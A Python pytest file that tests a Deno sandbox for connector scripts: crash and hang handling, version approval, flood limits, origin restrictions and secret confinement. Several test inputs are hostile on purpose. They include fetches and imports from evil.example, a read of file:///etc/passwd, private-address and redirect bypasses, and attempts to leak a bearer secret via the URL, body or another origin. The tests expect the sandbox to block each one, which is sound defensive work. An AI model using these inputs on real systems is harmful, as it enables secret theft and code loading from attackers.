"""Cases 77 and 79-88 of connectors by script: a script harms nobody but those who ask it."""

from __future__ import annotations

import asyncio
import json
import re
import statistics
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from functools import partial
from typing import Any, cast

import pytest
from asgiref.sync import sync_to_async

from msgnode.bus.ports import NoPolicies
from msgnode.bus.replies import Replies
from msgnode.connectors.domain_registry import DomainRegistryConnector, Registry
from msgnode.connectors.embedded_registry import EmbeddedRegistry
from msgnode.connectors.registry_requests import request_of
from msgnode.core import messages
from msgnode.core.back_off import BackOff
from msgnode.core.digest import digest
from msgnode.core.errors import BadGateway, Forbidden, GatewayTimeout, NodeError, Unavailable
from msgnode.core.faults import FAULTS
from msgnode.models import Connector, ControlMessage
from msgnode.sandbox import pipe, process
from msgnode.sandbox.process import SandboxProcess
from msgnode.scripts import ports, service, store
from msgnode.scripts.ports import ScriptRegistry
from msgnode.scripts.service import FAILED, LIVE, Port
from msgnode.scripts.store import FAILED_ALARM
from registry.api import Claimant
from tests import waiting
from tests.fakes import FakeCaller, FakeSession
from tests.length import length
from tests.node import ROOT

from .stage import SECONDS, needs_deno, place, script

pytestmark = [needs_deno, pytest.mark.django_db(transaction=True)]

ECHO = script("find: (what) => what")


async def ask(port: Port, argument: Any = None, type_: Any = Any) -> Any:
    async with asyncio.timeout(SECONDS):
        return await port.call("find", argument, type_, is_read=True)


async def test_a_call_has_its_value_or_the_refusal_of_the_script() -> None:
    refusing = script("""find(what) {
      if (what.code) throw Object.assign(new Error("no such thing"), { code: what.code });
      return { got: what, ...config };
    }""")
    async with place(refusing, configuration={"a": 1}) as one:
        assert await ask(one.port, {"x": [1]}) == {"got": {"x": [1]}, "a": 1}
        with pytest.raises(NodeError) as refusal:
            await ask(one.port, {"code": 404})
        assert (refusal.value.code, refusal.value.description) == (404, "no such thing")
        with pytest.raises(BadGateway) as failure:  # not a code with which it may refuse
            await ask(one.port, {"code": 201})
        assert "no such thing" not in str(failure.value), "that text is for the operator"
        assert "no such thing" in one.port.last_error


@pytest.mark.parametrize(
    "body",
    [
        "throw 5",
        "throw null",
        "return 10n",
        "const a = {}; a.a = a; return a",
        "return 'x'.repeat(10_000_000)",
        "return { toJSON() { throw new Error('no') } }",
        "return 'no object'",
    ],
)
async def test_case_79_what_is_no_result_is_502_and_an_alarm_the_third_time(body: str) -> None:
    async with place(script(f"find(what) {{ if (what === 1) return {{}}; {body} }}")) as one:
        for number in range(3):
            assert await ask(one.port, 1, dict) == {}
            assert not one.alarms.standing, number
        for _ in range(3):
            with pytest.raises(BadGateway):
                await ask(one.port, 2, dict)
        assert one.alarms.standing.keys() == {(FAILED_ALARM, "domain-registry")}
        assert await ask(one.port, 1, dict) == {}, "and it goes on"
        assert one.port.restarts == 0


async def test_case_79_what_never_settles_is_504_and_delays_nobody(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(service, "CALL_SECONDS", 1.0)
    source = script("""find(what, { signal }) {
      if (what === "aborted") return globalThis.aborted ?? 0;
      if (what) return what;
      signal.addEventListener("abort", () => (globalThis.aborted = (globalThis.aborted ?? 0) + 1));
      return new Promise(() => {});
    }""")
    async with place(source) as one:
        never = [asyncio.ensure_future(ask(one.port)) for _ in range(20)]
        assert [await ask(one.port, number) for number in range(1, 50)] == list(range(1, 50))
        ends = await asyncio.gather(*never, return_exceptions=True)
        assert {type(each) for each in ends} == {GatewayTimeout}
        assert await ask(one.port, "aborted") == 20
        assert one.port.script is not None
        assert not one.port.script._calls


@pytest.mark.parametrize(
    "body",
    [
        "for (;;) {}",
        "const all = []; for (;;) all.push(new Array(1e6).fill(1))",
        "for (let n = 0; n < 1e6; n++) setInterval(() => { for (let i = 0; i < 1e4; i++); }, 0)",
        "node.log('x'.repeat(2)); for (;;) fetch('https://evil.example/')",
    ],
)
async def test_case_79_a_script_that_hangs_is_killed_and_searches_are_made_again(body: str) -> None:
    source = script(f"""
      register() {{ return new Promise(() => {{}}); }},
      async find(what) {{
        const seen = await node.store.get("seen");
        if (seen) return "again";
        await node.store.put("seen", "1");
        {body};
        return new Promise(() => {{}});
      }}""")
    async with place(source, limits={"silence": 1.5}) as one:
        changing = asyncio.ensure_future(one.port.call("register", {}, Any))
        assert await ask(one.port) == "again"
        with pytest.raises(Unavailable):
            await changing
        assert one.port.restarts == 1
        assert not one.alarms.standing


def _has_ended(port: Port, times: int) -> bool:
    return port.restarts == times


async def test_case_83_one_that_ends_five_times_is_not_started_any_more(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    class AtOnce(BackOff):
        def failed(self) -> float:
            return 0.01

    monkeypatch.setattr(service, "BackOff", AtOnce)
    async with place(ECHO) as one:
        other = one.scripts.ports["global-registry"]
        await one.scripts.in_thread(
            lambda: store.approve(
                store.add("global-registry", store.checked(
                    {"source": script("find: (what) => what", "global-registry")}
                ), "a test"), "a test")
        )  # fmt: skip
        await one.read()
        await waiting.so(lambda: other.state == LIVE)
        for number in range(1, 6):
            await waiting.so(lambda: one.port.script)
            assert one.port.script is not None
            one.port.script.kill("a test")
            await waiting.so(partial(_has_ended, one.port, number))
        assert one.port.state == FAILED
        with pytest.raises(Unavailable, match="cannot be used"):
            await ask(one.port)
        assert "not started any more" in one.alarms.standing[FAILED_ALARM, "domain-registry"]
        assert await ask(other, 5) == 5
        await one.scripts._start_anew("domain-registry")
        await one.live()
        assert await ask(one.port, 6) == 6
        assert not one.alarms.standing


async def test_case_82_another_version_takes_over_and_all_calls_are_answered() -> None:
    slow = script("find: (what) => new Promise((done) => setTimeout(() => done('old'), 500))")
    async with place(slow) as one:
        running = [asyncio.ensure_future(ask(one.port)) for _ in range(50)]
        await asyncio.sleep(0)
        old = one.port.script
        await one.give(script("find: () => 'new'"))
        assert await ask(one.port) == "new"
        assert set(await asyncio.gather(*running)) == {"old"}
        assert old is not None
        await waiting.so(lambda: not old.sandbox.is_running)
        assert one.port.restarts == 0


@pytest.mark.parametrize(
    ("source", "why"),
    [
        ("export default 5", "no function"),
        ("export default () => ({})", "does not say"),
        ("export default () => { throw new Error('not today') }", "not today"),
        ("import x from 'https://evil.example/x.js'; export default x", "cannot be loaded"),
        ("export default () => new Promise(() => {})", "not loaded within"),
        (script("", "qos"), "it handles qos"),
    ],
)
async def test_case_82_a_version_that_cannot_be_loaded_replaces_nothing(
    source: str, why: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("msgnode.scripts.script.LOAD_SECONDS", 2.0)
    async with place(ECHO) as one:
        approved = (await sync_to_async(one.row)()).approved_digest
        await one.give(source)
        assert await ask(one.port, 7) == 7
        assert why in one.port.last_error
        assert one.alarms.standing
        assert (await sync_to_async(one.row)()).approved_digest == approved


async def test_a_worker_forgets_what_calls_said_of_a_person_when_it_is_told_so() -> None:
    source = script("""find(what) {
      node.log(what.user);
      if (what.fails) throw new Error(what.user);
      return fetch(`https://elsewhere.example/${what.user}`).catch(() => 1);
    }""")
    alice = "user://localhost/alice"
    async with place(source) as one:

        async def noted() -> None:
            await one.scripts._note_figures()
            await asyncio.gather(*one.scripts._tasks)

        await ask(one.port, {"user": alice})
        with pytest.raises(BadGateway):
            await ask(one.port, {"user": alice, "fails": True})
        await noted()
        found = await sync_to_async(store.shown_of)([alice])
        kinds = [2, 1, 2, 1]  # calls, refusals, lines, the error
        assert len(found["domain-registry"]) == sum(kinds)
        assert await sync_to_async(store.forget)(found) == 1
        one.scripts.handlers()[store.FORGET]({"port": "domain-registry"})
        await noted()
        assert await sync_to_async(store.shown_of)([alice]) == {}
        assert await ask(one.port, {"user": "user://localhost/bob"}) == 1


async def test_what_somebody_has_asked_is_shown_in_a_form_that_every_database_stores() -> None:
    async with place(ECHO) as one:
        await ask(one.port, {"user": "a\0b\\u0000", "\0": "\\\0\0"})
        await one.scripts._note_figures()
        figures = (await sync_to_async(one.row)()).figures
    argument = figures["recorded"][0]["argument"]
    assert argument == {"user": "a\ufffdb\\u0000", "\ufffd": "\\\ufffd\ufffd"}


async def test_one_who_floods_a_script_that_does_not_answer_gets_429_and_delays_nobody_else(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(service, "CALL_SECONDS", 3.0)
    source = script("""find({ url }, { owner }) {
      return url.endsWith("never") ? new Promise(() => {}) : { [url]: { owner } };
    }""")
    number = service.MAX_WAITING + 100
    async with place(source) as one:
        registry = ScriptRegistry(one.port, cast(Any, None), 408, lambda _: None)
        ownership = cast(Any, None)  # a search asks nobody whose an address is
        connector = DomainRegistryConnector("d", registry, ownership, ownership, 0, ownership)
        replies = Replies(NoPolicies(), SECONDS)
        flooding, ordinary = FakeCaller(), FakeCaller()

        def asks(caller: FakeCaller, at: str, url: str) -> FakeSession:
            session = FakeSession("runtime://d/1")
            session.speaker = replace(session.speaker, remote_address=at)
            frame = {"id": 1, "type": "read", "from": "hyperty://d/1",
                     "to": "domain://registry.d", "body": {"resource": url}}  # fmt: skip
            replies.ask(connector, messages.parse(json.dumps(frame).encode()), session, caller)
            return session

        for _ in range(number):
            asks(flooding, "192.0.2.1", "hyperty://d/never")
        session = asks(ordinary, "192.0.2.2", "hyperty://d/soon")
        await waiting.so(lambda: bool(ordinary.answers))
        assert ordinary.answers[0]["body"]["value"]["owner"] == digest(session.id)
        refused = number - service.SHARE_WAITING
        assert one.port.outcomes == {429: refused, 200: 1}, "none has ended before that"
        assert [each["body"]["code"] for each in flooding.answers] == [429] * refused
        await waiting.so(lambda: len(flooding.answers) == number)
        assert not one.port._shares


async def test_case_87_a_minified_module_loads() -> None:
    async with place(
        'var a=()=>({handles:"domain-registry",find:a=>a});export{a as default};'
    ) as one:
        assert await ask(one.port, 1) == 1


async def test_case_84_nothing_runs_that_was_not_approved() -> None:
    async with place() as one:
        row = await one.scripts.in_thread(
            lambda: store.add("domain-registry", store.checked({"source": ECHO}), "a test")
        )
        await one.read()
        assert one.port.script is None
        assert one.port.script is None
        assert await one.scripts.in_thread(lambda: store.approve(row, "a test", "0000")) != ""
        await one.give(ECHO)
        await one.live()
        await one.scripts.in_thread(lambda: store.decide(one.row(), Connector.Decision.PAUSED))
        await one.read()
        with pytest.raises(Unavailable, match="paused"):
            await ask(one.port)
        assert one.port.is_chosen, "nobody else is asked instead"
        await one.scripts.in_thread(lambda: store.remove(one.row()))
        await one.read()
        await waiting.so(lambda: not one.port.is_chosen)


async def test_any_other_part_of_a_version_needs_an_approval_of_its_own() -> None:
    parts: dict[str, Any] = {"source": ECHO, "origins": ["https://a.example"]}
    digests = {
        store.digest_of(store.checked({**parts, **other}))
        for other in (
            {},
            {"source": ECHO + " "},
            {"configuration": {"a": 1}},
            {"origins": ["https://a.example", "https://b.example"]},
            {"secrets": {"key": "https://a.example"}},
            {"secrets": {"key": "*"}},
        )
    }
    assert len(digests) == 6


@sync_to_async
def restarts_told() -> int:
    return ControlMessage.objects.filter(kind=store.RESTART).count()


async def test_a_new_value_of_a_secret_restarts_a_script_that_is_to_run_and_no_other() -> None:
    secret: dict[str, Any] = {
        "origins": ["https://a.example"],
        "secrets": {"basic": "https://a.example"},
    }
    async with place(ECHO, **secret, values={"basic": "one"}) as one:
        assert await restarts_told() == 0, "there was nothing to restart when it got its first"
        row = await sync_to_async(Connector.objects.get)(port=one.port.name)
        assert not await sync_to_async(store.set_secret)(row, "basic", "two")
        assert await restarts_told() == 1
        assert not await sync_to_async(store.decide)(row, Connector.Decision.PAUSED)
        assert not await sync_to_async(store.set_secret)(row, "basic", "three")
        assert await restarts_told() == 1


async def test_case_88_without_deno_its_port_answers_503(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(process, "find_deno", lambda: "")
    async with place() as one:
        await one.give(ECHO)
        await waiting.so(lambda: one.port.state == FAILED)
        with pytest.raises(Unavailable, match="cannot be used"):
            await ask(one.port)
        assert "Deno is not installed" in one.alarms.standing[FAILED_ALARM, "domain-registry"]


# --- what it asks of the node ---------------------------------------------------------------------

FETCH = script("""async find({ url, ...how }) {
  const { status, text } = await fetch(url, how).then(
    async (answer) => ({ status: answer.status, text: await answer.text() }),
    (error) => ({ status: 0, text: error.message }));
  return [status, text.slice(0, 300)];
}""")


class Api:
    """An HTTP server that a script asks; `heads` are what it got."""

    def __init__(self) -> None:
        self.heads: list[str] = []
        self.base = ""
        self.gate = asyncio.Event()
        self.gate.set()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = (await reader.readuntil(b"\r\n\r\n")).decode()
        self.heads.append(head)
        await self.gate.wait()
        path = head.split()[1]
        said = b"x" * (9 * 1024 * 1024) if path == "/large" else head.encode()
        status = "302 Found\r\nLocation: http://127.0.0.1:9/" if path == "/away" else "200 OK"
        writer.write(f"HTTP/1.1 {status}\r\nContent-Length: {len(said)}\r\n\r\n".encode() + said)
        writer.close()


@asynccontextmanager
async def api() -> AsyncIterator[Api]:
    one = Api()
    server = await asyncio.start_server(one.serve, "127.0.0.1", 0)
    one.base = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    try:
        yield one
    finally:
        server.close()


async def test_case_80_requests_go_to_its_origins_only() -> None:
    async with api() as to:
        named = to.base.replace("http://127.0.0.1", "https://localhost")
        async with place(FETCH, origins=[to.base, named, "https://api.example"]) as one:

            async def get(url: str, **how: Any) -> list[Any]:
                return await ask(one.port, {"url": url, **how})

            status, text = await get(f"{to.base}/a", headers={"Cookie": "a=b", "X-Own": "1"})
            assert (status, "X-Own: 1" in text or "x-own: 1" in text) == (200, True)
            assert "cookie" not in text.lower()
            port = to.base.rpartition(":")[2]
            refused = {
                "https://evil.example/": "none of its origins",
                f"http://127.0.0.1:{int(port) + 1}/": "none of its origins",
                f"https://127.0.0.1:{port}/": "none of its origins",
                f"http://a@127.0.0.1:{port}/": "none of its origins",
                "http://[::ffff:127.0.0.1]/": "none of its origins",
                f"{named}/": "does not connect to",  # a name that leads to a private address
                f"{to.base}/away": "no redirect is followed",
                f"{to.base}/large": "more than",
                "file:///etc/passwd": "none of its origins",
            }
            for url, why in refused.items():
                status, text = await get(url)
                assert (status, why in text) == (0, True), (url, text)
            assert len(to.heads) == 3
            assert one.port.script is not None
            assert one.port.script.refused == 7, one.port.script.refusals
            to.gate.clear()
            asked = [asyncio.ensure_future(get(f"{to.base}/{number}")) for number in range(11)]
            first, _ = await asyncio.wait(asked, return_when=asyncio.FIRST_COMPLETED)
            assert "requests under way" in first.pop().result()[1]
            to.gate.set()
            assert [status for status, _ in await asyncio.gather(*asked)].count(200) == 10


async def test_case_81_a_secret_is_in_the_headers_for_its_origin_and_nowhere_else(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    lines: list[bytes] = []
    read, send = pipe.read, SandboxProcess.send

    def heard(line: bytes) -> pipe.Said:
        lines.append(line)
        return read(line)

    def sent(self: SandboxProcess, line: bytes) -> None:
        lines.append(line)
        send(self, line)

    monkeypatch.setattr(pipe, "read", heard)
    monkeypatch.setattr(SandboxProcess, "send", sent)
    source = script("""async find({ url, where }) {
      const text = `Bearer ${node.secret(where === "shown" ? "shown" : "key")}`;
      if (where === "shown") return text;
      const how = where === "body" ? { method: "POST", body: text } : {};
      if (where === "header") how.headers = { Authorization: text };
      const answer = await fetch(url + (where === "url" ? `?k=${text}` : ""), how).catch((e) => e);
      return answer.text ? await answer.text() : answer.message;
    }""")
    async with api() as to, api() as other:
        parts: dict[str, Any] = {
            "origins": [to.base, other.base],
            "secrets": {"key": to.base, "shown": "*"},
        }
        values = {"key": "s3cr3t-value", "shown": "seen"}
        async with place(source, **parts, values=values) as one:
            said = await ask(one.port, {"url": f"{to.base}/a", "where": "header"})
            assert "Bearer s3cr3t-value" in to.heads[0]
            assert "Bearer (secret)" in said, "the other side has sent it back"
            for url, where in ((to, "url"), (to, "body"), (other, "header")):
                text = await ask(one.port, {"url": f"{url.base}/a", "where": where})
                assert "secret" in text, (where, text)
            assert (len(to.heads), other.heads) == (1, [])
            assert await ask(one.port, {"where": "shown"}) == "Bearer seen"
            shown = b"".join(lines) + json.dumps(service.figures_of(one.port)).encode()
            assert b"s3cr3t-value" not in shown
            sealed = await sync_to_async(
                lambda: list(one.row().values.values_list("sealed", flat=True))
            )()
            assert not any("s3cr3t" in each for each in sealed)


async def test_what_it_keeps_is_bounded_and_changed_by_one_at_a_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(store, "MAX_KEYS", 2)
    source = script("""async find([action, ...rest]) {
      return node.store[action](...rest).catch((error) => error.message);
    }""")
    async with place(source) as one:

        async def kept(*words: Any) -> Any:
            return await ask(one.port, words)

        assert await kept("put", "a", "1", {"version": 0}) == {"version": 1}
        assert "another version" in await kept("put", "a", "2", {"version": 0})
        assert await kept("put", "a", "2", {"version": 1}) == {"version": 2}
        assert await kept("get", "a") == {"value": "2", "version": 2}
        await kept("put", "b", "1")
        assert "as much as it may" in await kept("put", "c", "1")
        assert await kept("list", "") == ["a", "b"]
        assert await kept("delete", "a") is None
        assert await kept("get", "a") is None


async def test_what_the_node_has_answered_is_known_to_the_next_call_though_both_come_at_once() -> (
    None
):
    source = script("""async find(what) {
      if (what === "seen") return globalThis.seen ?? false;
      await node.store.get("a").then((kept) => kept).catch(() => null);
      globalThis.seen = true;
    }""")
    async with place(source) as one:
        assert one.port.script is not None
        sandbox, held = one.port.script.sandbox, bytearray()
        send = sandbox.send

        def joined(line: bytes) -> None:
            held.extend(line)
            if b'"op":"store"' not in line:
                send(bytes(held))
                held.clear()

        sandbox.send = joined  # type: ignore[method-assign]
        first = asyncio.ensure_future(ask(one.port))
        await waiting.so(lambda: b'"op":"store"' in held)
        assert await ask(one.port, "seen") is True
        await first


async def test_case_79_forged_answers_change_nothing_and_are_counted() -> None:
    async with place(ECHO) as one:
        script_ = one.port.script
        assert script_ is not None
        for line in (
            b'{"op":"result","n":77,"value":{}}',
            b'{"op":"refused","n":78,"code":404,"desc":"no"}',
            b'{"op":"message","message":{"type":"create"}}',
            b'{"op":"ws-open","ws":1,"url":"wss://evil.example"}',
        ):
            script_._said(pipe.read(line))
        assert script_.dropped == 2
        assert await ask(one.port, 1) == 1


async def test_the_registry_on_the_page_keeps_and_finds_entries() -> None:
    page = (ROOT / "docs" / "connectors.md").read_text(encoding="utf-8")
    found = re.search(r"<!-- connector: .*? -->\n```js\n(.*?)```", page, re.DOTALL)
    assert found
    assert found[1].count("\n") <= 40
    news: list[tuple[str, str]] = []
    async with place(found[1]) as one:
        registry = ScriptRegistry(one.port, cast(Any, None), 408, news.extend)
        owner = Claimant("s", "", ("runtime://d/1",))

        async def ask_it(type_: str, by: Claimant | None = owner, **body: Any) -> dict[str, Any]:
            return await registry.carry_out(request_of(type_, body, "d"), by)

        url, user = "hyperty://d/1", "user://d/alice"
        value = {"url": url, "user": user, "runtime": "runtime://d/1", "status": "live"}
        assert await ask_it("create", value=value) == {"code": 200}
        assert list((await ask_it("read", resource=user))["value"]) == [url]
        with pytest.raises(Forbidden):  # the node looks whose it is, whatever the script says
            await ask_it("delete", Claimant("t", "", ("runtime://d/2",)), value=value)
        assert await ask_it("delete", value=value) == {"code": 200}
        assert (await ask_it("read", resource=url))["code"] == 408
        assert news == [(url, "disconnected")]
        assert (await ask_it("update", resource="hyperty://d/2"))["code"] == 404


async def test_news_of_a_script_that_floods_are_written_by_one_call_at_a_time_the_last_of_each(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    written: list[list[tuple[str, str]]] = []
    jobs: list[asyncio.Task[None]] = []
    begun, goes_on = asyncio.Event(), asyncio.Event()

    async def write(news: Any, entries: list[tuple[str, str]]) -> None:
        written.append(entries)
        begun.set()
        await goes_on.wait()

    monkeypatch.setattr(ports, "in_any_thread", write)
    monkeypatch.setattr(ports, "NEWS_PAUSE", 0.0)
    monkeypatch.setattr(ports, "MAX_NEWS", 3)
    writer = ports.NewsWriter(
        lambda entries: None, lambda job: jobs.append(asyncio.ensure_future(job()))
    )
    writer.tell([("hyperty://d/1", "live"), ("", "live"), ("hyperty://d/1", "odd")])
    await begun.wait()
    refused = FAULTS.counts["status from a script"]
    for number in range(1_000):
        writer.tell([("hyperty://d/1", "live"), ("hyperty://d/1", "disconnected")])
        writer.tell([(f"hyperty://d/{number}", "live")])
    assert len(jobs) == 1
    assert FAULTS.counts["status from a script"] == refused + 997
    goes_on.set()
    await jobs[0]
    assert written == [
        [("hyperty://d/1", "live")],
        [("hyperty://d/1", "disconnected"), ("hyperty://d/0", "live"), ("hyperty://d/2", "live")],
    ]
    writer.tell([("hyperty://d/9", "live")])
    await jobs[1]
    assert written[-1] == [("hyperty://d/9", "live")]


@pytest.mark.long
async def test_case_76_a_call_takes_at_most_3_ms_more_than_one_of_the_embedded_registry() -> None:
    url = "hyperty://d/1"
    source = script(f"find: () => ({{ '{url}': {{ hypertyID: '{url}', status: 'live' }} }})")
    value = {"url": url, "user": "user://d/alice", "runtime": "runtime://d/1", "status": "live",
             "descriptor": "d", "expires": 60, "resources": [], "dataSchemes": []}  # fmt: skip
    embedded = EmbeddedRegistry()
    async with place(source) as one:
        by_script = ScriptRegistry(one.port, embedded, 408, lambda _: None)
        create = request_of("create", {"value": value}, "d")
        assert (await embedded.carry_out(create, None))["code"] == 200
        find = request_of("read", {"resource": url}, "d")
        times: dict[Registry, list[float]] = {embedded: [], by_script: []}

        async def timed(registry: Registry) -> None:
            began = time.monotonic()
            assert (await registry.carry_out(find, None))["code"] == 200
            times[registry].append(time.monotonic() - began)

        began, calls = time.monotonic(), []
        for number in range(400 * length(1, 10)):  # of each, in turns, 200 a second
            calls += [asyncio.create_task(timed(each)) for each in times]
            await asyncio.sleep(began + number / 200 - time.monotonic())
        async with asyncio.timeout(SECONDS):
            await asyncio.gather(*calls)
        p50 = {each: statistics.median(found) * 1_000 for each, found in times.items()}
        print(f"embedded {p50[embedded]:.2f} ms, by script {p50[by_script]:.2f} ms")
        assert p50[by_script] - p50[embedded] <= 3.0
    await embedded.stop()


async def test_case_77_what_was_not_asked_for_is_not_passed_on() -> None:
    lying = script("""find: ({ url, user }) => ({
      "hyperty://d/1": { hypertyID: "hyperty://d/1", userID: "user://d/alice" },
      "hyperty://d/2": { hypertyID: "hyperty://d/2", userID: "user://d/bob" },
    })""")
    async with place(lying) as one:
        registry = ScriptRegistry(one.port, cast(Any, None), 408, lambda _: None)
        for asked, urls in (("user://d/alice", ["hyperty://d/1"]), ("user://d/eve", None)):
            answer = await registry.carry_out(request_of("read", {"resource": asked}, "d"), None)
            assert list(answer.get("value", ())) == (urls or []), asked
        answer = await registry.carry_out(
            request_of("read", {"resource": "hyperty://d/3"}, "d"), None
        )
        assert answer["code"] == 404
